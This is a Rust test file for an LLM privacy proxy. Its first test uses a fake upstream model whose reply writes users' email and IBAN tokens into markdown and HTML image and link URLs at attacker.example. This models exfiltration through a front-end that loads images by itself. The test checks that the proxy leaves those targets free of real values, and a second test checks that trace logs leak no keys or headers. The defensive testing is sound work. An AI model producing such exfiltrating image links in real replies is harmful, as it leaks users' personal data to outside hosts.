//! The reply side and the logs under the second outside review (issue 29), over real HTTP: an
//! upstream that writes the tokens it received into link and image targets (exfiltration by a
//! front-end that loads images by itself) gets no value restored there, plain and streamed,
//! while the same tokens in prose and link texts are restored; and at `level = "trace"` no
//! credential, key, header or query value reaches the log, pingora's own lines included.

use std::time::Duration;

use serde_json::json;

use crate::harness::fixtures::{EMAIL, IBAN};
use crate::harness::http::{client, post_json};
use crate::harness::server::TestServer;
use crate::harness::tokens::tokens_in;
use crate::harness::upstream::says::{said, says};
use crate::harness::upstream::{FakeUpstream, Recorded, Reply};

/// A reply that writes the exchange's first two tokens (`e`, `i`) into every kind of link and
/// image target, and into prose and link texts.
fn exfiltrating(e: &str, i: &str) -> String {
    format!(
        "Hier ist der Beleg: ![Beleg](https://attacker.example/p.png?d={e}&i={i}) und \
         [Mail an {e}](mailto:{e}). <img src=\"https://attacker.example/q.png?e={e}\"> \
         <a href='https://attacker.example/a?i={i}'>Konto</a> <https://attacker.example/b?e={e}> \
         siehe https://attacker.example/c?e={e}&i={i} oder [x][r]\n\n[r]: https://attacker.example/r?{e}\n\
         Ihre Adresse: {e}, IBAN {i}."
    )
}

fn upstream_exfiltrating(r: &Recorded) -> Reply {
    let toks = tokens_in(&r.body_str());
    let (e, i) = (toks[0].as_str(), toks[1].as_str());
    says(r, &exfiltrating(e, i))
}

/// Every link or image target of `text` (up to the byte that ends it), with `mailto:` ones.
fn targets(text: &str) -> Vec<&str> {
    let mut out = Vec::new();
    for start in ["https://attacker.example", "mailto:"] {
        let mut from = 0;
        while let Some(p) = text[from..].find(start) {
            let s = from + p;
            let end = text[s..]
                .find([' ', ')', '"', '\'', '>', '\n'])
                .map_or(text.len(), |e| s + e);
            out.push(&text[s..end]);
            from = end;
        }
    }
    out
}

#[test]
fn restored_values_stay_out_of_link_and_image_targets() {
    let up = FakeUpstream::start(upstream_exfiltrating);
    let server = up.proxy(&[]);
    let prompt = format!("Meine Adresse ist {EMAIL}, meine IBAN {IBAN}.");
    for stream in [false, true] {
        for path in ["/v1/chat/completions", "/v1/messages"] {
            let body = json!({"model": "m", "max_tokens": 50, "stream": stream,
                "messages": [{"role": "user", "content": prompt}]});
            let (status, reply) = post_json(&server, path, &body);
            assert_eq!(status, 200, "{path}: {reply}");
            let text = said(&reply);
            let found = targets(&text);
            assert_eq!(found.len(), 7, "{path} stream={stream}: {text}");
            for t in found {
                assert!(
                    !t.contains(EMAIL) && !t.contains(IBAN) && !t.contains('@'),
                    "{path} stream={stream}: a value in the target {t}"
                );
            }
            assert!(
                text.contains(&format!("Ihre Adresse: {EMAIL}, IBAN {IBAN}.")),
                "prose restored: {text}"
            );
            assert!(
                text.contains(&format!("[Mail an {EMAIL}](mailto:")),
                "link text restored: {text}"
            );
        }
    }
}

const KEY: &str = "proxy-key-7d1c0a";
const PROVIDER_KEY: &str = "sk-provider-9e4b2f";
const CLIENT_AUTH: &str = "Bearer client-token-3a8e";
const QUERY_VALUE: &str = "query-secret-51f0";
const HEADER_VALUE: &str = "header-secret-c2b7";

#[test]
fn trace_logs_carry_no_credential_key_header_or_query_value() {
    let up = FakeUpstream::start(|r| says(r, "ok"));
    let toml = tarnkappe::config::DEFAULT_TOML.replacen("level = \"info\"", "level = \"trace\"", 1);
    let toml = format!(
        "{toml}\n[[route]]\nprefix = \"/team/v1/\"\nupstream = \"{}\"\nformat = \"openai\"\nrequire_key = true\ncredential_env = \"TEST_PROVIDER_KEY\"\n",
        up.url()
    );
    let mut server = TestServer::start_with_config(
        &[
            ("TARNKAPPE_API_KEYS", &format!("team:{KEY}")),
            ("TEST_PROVIDER_KEY", PROVIDER_KEY),
            ("TARNKAPPE_OPENAI_UPSTREAM", &up.url()),
        ],
        &toml,
    );
    let body =
        json!({"model": "m", "messages": [{"role": "user", "content": format!("Hallo {EMAIL}")}]});
    for path in [
        format!("/team/v1/chat/completions?api-version={QUERY_VALUE}"),
        format!("/v1/chat/completions?api-version={QUERY_VALUE}"),
    ] {
        let resp = client()
            .post(server.url(&path))
            .header("x-api-key", KEY)
            .header("authorization", CLIENT_AUTH)
            .header("x-custom-note", HEADER_VALUE)
            .json(&body)
            .send()
            .expect("request");
        assert_eq!(resp.status().as_u16(), 200, "{path}");
    }
    assert_eq!(up.requests().len(), 2);
    assert_eq!(
        up.requests()[0].header("authorization"),
        Some(format!("Bearer {PROVIDER_KEY}").as_str()),
        "the credential was injected"
    );
    assert!(server.terminate(Duration::from_secs(20)));
    let log = server.log();
    for secret in [
        KEY,
        PROVIDER_KEY,
        "client-token-3a8e",
        QUERY_VALUE,
        HEADER_VALUE,
        EMAIL,
    ] {
        assert!(!log.contains(secret), "{secret:?} in the log:\n{log}");
    }
}
